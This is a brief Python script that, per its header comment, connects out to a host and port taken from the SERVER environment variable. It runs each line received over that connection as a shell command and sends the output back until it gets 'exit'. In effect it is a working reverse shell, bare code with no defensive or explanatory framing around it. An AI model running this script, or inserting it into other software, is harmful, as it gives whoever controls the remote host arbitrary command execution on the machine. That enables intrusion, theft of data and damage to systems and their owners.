# what: no shell that stays: one command after the other, as they come over the connection, their output sent back
# server: shell
import os, socket, subprocess

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
for line in s.makefile("r"):
    if line.strip() == "exit":
        break
    s.sendall(subprocess.run(line, shell=True, stdout=subprocess.PIPE).stdout)
print("done")
